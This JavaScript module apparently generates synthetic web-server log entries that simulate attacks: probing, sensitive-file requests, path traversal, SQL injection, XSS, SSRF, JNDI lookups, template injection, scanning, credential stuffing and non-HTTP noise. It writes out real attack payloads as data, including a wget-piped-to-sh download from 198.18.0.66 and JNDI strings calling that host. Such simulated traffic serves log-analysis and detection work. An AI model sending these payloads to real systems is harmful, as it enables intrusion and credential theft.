// @ts-check
import { toAddress, toVisitor } from './visitors.mjs';

const CURL = 'curl/8.5.0';
const GO = 'Go-http-client/1.1';

/**
 * One kind of attack: requests of one actor, the status of the answers, and how the tool names itself (empty: as a browser).
 * @typedef {object} Attack
 * @property {string} label
 * @property {readonly string[]} requests without the protocol
 * @property {number} status
 * @property {string} userAgent
 * @property {string} [referrer]
 */

/** @type {readonly Attack[]} */
const ATTACKS = [
  {
    label: 'probing',
    requests: [
      'GET /wp-login.php',
      'GET /wp-admin/setup-config.php',
      'GET /xmlrpc.php',
      'GET /phpmyadmin/index.php',
      'GET /administrator/',
      'GET /cgi-bin/luci',
      'GET /owa/auth/logon.aspx',
      'GET /boaform/admin/formLogin',
      'GET /actuator/health',
      'GET /solr/admin/info/system',
      'GET /wp-includes/wlwmanifest.xml',
      'GET /old/wp-admin/install.php',
      'GET /shell.php',
      'GET /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
    ],
    status: 404,
    userAgent: '',
  },
  {
    label: 'sensitive-file',
    requests: [
      'GET /.env',
      'GET /.git/config',
      'GET /.git/HEAD',
      'GET /config.php.bak',
      'GET /backup.sql',
      'GET /.aws/credentials',
      'GET /.htpasswd',
      'GET /web.config',
      'GET /id_rsa',
      'GET /.DS_Store',
      'GET /api/.env',
      'GET /storage/logs/laravel.log',
    ],
    status: 404,
    userAgent: GO,
  },
  {
    label: 'path-traversal',
    requests: [
      'GET /../../../../etc/passwd',
      'GET /assets/..%2f..%2f..%2f..%2fetc/passwd',
      'GET /download?file=../../../../etc/shadow',
      'GET /%2e%2e/%2e%2e/%2e%2e/windows/win.ini',
      'GET /cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh',
      'GET /static/....//....//etc/hosts',
    ],
    status: 400,
    userAgent: CURL,
  },
  {
    label: 'sql-injection',
    requests: [
      'GET /news/?id=1%27%20OR%20%271%27=%271',
      'GET /news/?id=1%20UNION%20SELECT%20null,version(),null--',
      'GET /courses/?page=1;SELECT%20pg_sleep(5)--',
      'GET /news/?id=1%20AND%20SLEEP(5)',
      "GET /news/?id=-1'+union+all+select+1,concat(user(),0x3a,database())--+-",
    ],
    status: 200,
    userAgent: 'sqlmap/1.8.4#stable (https://sqlmap.org)',
  },
  {
    label: 'cross-site-scripting',
    requests: [
      'GET /news/?q=%3Cscript%3Ealert(1)%3C/script%3E',
      'GET /?s=%22%3E%3Cimg%20src=x%20onerror=alert(document.cookie)%3E',
      'GET /courses/?name=javascript:alert(1)',
      'GET /%3Csvg/onload=confirm(1)%3E',
    ],
    status: 403,
    userAgent: '',
  },
  {
    label: 'command-injection',
    requests: [
      'GET /cgi-bin/test.cgi?cmd=;cat%20/etc/passwd',
      'GET /?x=$(wget%20http://198.18.0.66/a.sh%20-O-|sh)',
      'GET /ping?host=127.0.0.1|id',
    ],
    status: 403,
    userAgent: GO,
  },
  {
    label: 'server-side-request-forgery',
    requests: [
      'GET /proxy?url=http://169.254.169.254/latest/meta-data/',
      'GET /fetch?u=http://127.0.0.1:6379/',
      'GET /img?src=file:///etc/passwd',
    ],
    status: 403,
    userAgent: CURL,
  },
  {
    label: 'jndi-injection',
    requests: ['GET /', 'GET /?x=${jndi:ldap://198.18.0.66:1389/a}', 'GET /${jndi:dns://probe.example/x}'],
    status: 403,
    userAgent: '${jndi:ldap://198.18.0.66:1389/Basic/x}',
    referrer: '${${lower:j}ndi:rmi://198.18.0.66/o}',
  },
  {
    label: 'template-injection',
    requests: [
      'GET /?name={{7*7}}',
      'GET /news/?q=%7B%7Bconfig.items()%7D%7D',
      'GET /?t=${7*7}',
      'GET /?p=%23%7B7*7%7D',
    ],
    status: 200,
    userAgent: '',
  },
  {
    label: 'scanner',
    requests: [
      'GET /',
      'OPTIONS /',
      'GET /robots.txt',
      'GET /nmaplowercheck1732240000',
      'GET /HNAP1',
      'GET /sdk',
      'PROPFIND /',
      'TRACE /',
    ],
    status: 405,
    userAgent: 'Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)',
  },
];

/**
 * Plans one attack: a burst of one actor's requests within a minute or two, or passwords tried from many addresses.
 * @param {import('./visits.mjs').Plan} plan
 * @param {number} startMs
 * @returns {import('./visits.mjs').TrafficEntry[]}
 */
export function planAttack(plan, startMs) {
  const { random } = plan;
  if (random.chance(0.15)) return planCredentialStuffing(plan, startMs);
  const attack = random.pick(ATTACKS);
  const actor = toVisitor(plan.seed + 77, random.zipf(200, 5));
  const rounds = 1 + random.below(3);
  const stepMs = 100 + random.below(2500);
  return Array.from({ length: attack.requests.length * rounds }, (_, at) => ({
    kind: 'attack',
    label: attack.label,
    remoteAddr: actor.remoteAddr,
    timeMs: startMs + at * stepMs,
    request: `${attack.requests[at % attack.requests.length]} HTTP/1.1`,
    status: attack.status,
    bytesSent: attack.status === 200 ? 2404 : 153,
    referrer: attack.referrer ?? '',
    userAgent: attack.userAgent || actor.userAgent,
  }));
}

/**
 * @param {import('./visits.mjs').Plan} plan
 * @param {number} startMs
 * @returns {import('./visits.mjs').TrafficEntry[]}
 */
function planCredentialStuffing({ random, seed }, startMs) {
  const stepMs = 300 + random.below(4000);
  return Array.from({ length: 20 + random.below(40) }, (_, at) => ({
    kind: 'attack',
    label: 'credential-stuffing',
    remoteAddr: toAddress(10 + random.below(50) + 100 * random.below(9000), random.below(9000)),
    remoteUser: random.pick(['admin', 'root', 'webmaster', 'test', 'mutekicho']),
    timeMs: startMs + at * stepMs,
    request: 'POST /admin/login HTTP/1.1',
    status: 401,
    bytesSent: 179,
    referrer: '',
    userAgent: toVisitor(seed, random.below(30)).userAgent,
  }));
}

/** What arrives at port 80 and is not HTTP: a TLS greeting, other protocols, nothing at all. Bytes as latin1. */
const NOISE = /** @type {const} */ ([
  ['\x16\x03\x01\x01\x32\x01\x00\x01.\x03\x03\xf3\x8e"\\\xa9\x07', 400],
  ['\x03\x00\x00/*\xe0\x00\x00\x00\x00\x00Cookie: mstshash=Administr', 400],
  ['SSH-2.0-Go', 400],
  ['\x05\x01\x00', 400],
  ['', 408],
  ['', 408],
  ['', 400],
  ['GET / HTTP/9.9', 505],
]);

/**
 * Plans one contact that is no request.
 * @param {import('./visits.mjs').Plan} plan
 * @param {number} timeMs
 * @returns {import('./visits.mjs').TrafficEntry[]}
 */
export function planNoise({ random }, timeMs) {
  const [request, status] = random.pick(NOISE);
  const remoteAddr = toAddress(10 + random.below(50) + 100 * random.below(9000), random.below(254));
  return [
    {
      kind: 'noise',
      remoteAddr,
      timeMs,
      request,
      status,
      bytesSent: status === 408 ? 0 : 150,
      referrer: '',
      userAgent: '',
    },
  ];
}
